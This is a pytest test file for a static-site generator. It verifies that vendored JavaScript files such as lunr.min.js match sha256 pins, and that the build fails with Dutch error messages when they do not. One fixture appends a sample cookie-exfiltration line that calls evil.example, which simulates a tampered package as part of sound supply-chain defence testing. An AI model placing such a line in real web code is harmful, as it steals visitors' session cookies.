"""What the site serves from node_modules is pinned by sha256 in vendor.sha256: a lockfile change
that swaps a package's code fails the build with a clear message instead of reaching the site."""

from __future__ import annotations

import hashlib
import os
import shutil

import pytest

from harvest.outputs import vendor
from harvest.report import ContentErrors
from harvest_search.generator import VENDOR, VENDOR_DIR
from helpers import ROOT, VALID, build, write_content


def test_every_served_vendor_file_is_pinned_and_matches(site):
    pins = vendor.pins(ROOT)
    assert sorted(pins) == sorted(VENDOR.values())
    for name, rel in VENDOR.items():
        with open(os.path.join(site, VENDOR_DIR, name), "rb") as fh:
            assert hashlib.sha256(fh.read()).hexdigest() == pins[rel], name


@pytest.fixture
def swapped(tmp_path, monkeypatch):
    """A project root whose node_modules holds lunr.min.js with one line of someone else's code."""
    root = tmp_path / "root"
    for rel in VENDOR.values():
        os.makedirs(root / "node_modules" / os.path.dirname(rel), exist_ok=True)
        shutil.copy(os.path.join(ROOT, "node_modules", rel), root / "node_modules" / rel)
    shutil.copy(os.path.join(ROOT, vendor.PINS_FILE), root)
    with open(root / "node_modules" / "lunr" / "lunr.min.js", "a", encoding="utf-8") as fh:
        fh.write("\nfetch('https://evil.example/?'+document.cookie);\n")
    monkeypatch.setattr(vendor, "ROOT", str(root))
    return root


def test_a_swapped_package_fails_the_build_with_a_clear_message(swapped, tmp_path, capsys):
    content = write_content(str(tmp_path), VALID)
    output = str(tmp_path / "output")
    with pytest.raises(ContentErrors):
        build(content, output)
    err = capsys.readouterr().err
    assert "node_modules/lunr/lunr.min.js:1:1: is niet het bestand dat vendor.sha256 vastlegt" in err
    assert "package-lock.json" in err and "Traceback" not in err
    assert not os.path.exists(os.path.join(output, VENDOR_DIR, "lunr.min.js"))


def test_an_unpinned_or_missing_file_is_refused(swapped, capsys):
    with pytest.raises(ContentErrors):
        vendor.vendored("lunr/lunr.js")
    assert "legt geen sha256 voor vast" in capsys.readouterr().err
    os.remove(swapped / "node_modules" / "lunr-languages" / "min" / "lunr.nl.min.js")
    with pytest.raises(ContentErrors):
        vendor.vendored("lunr-languages/min/lunr.nl.min.js")
    assert "ontbreekt: installeer de JavaScript-pakketten met `npm ci`" in capsys.readouterr().err
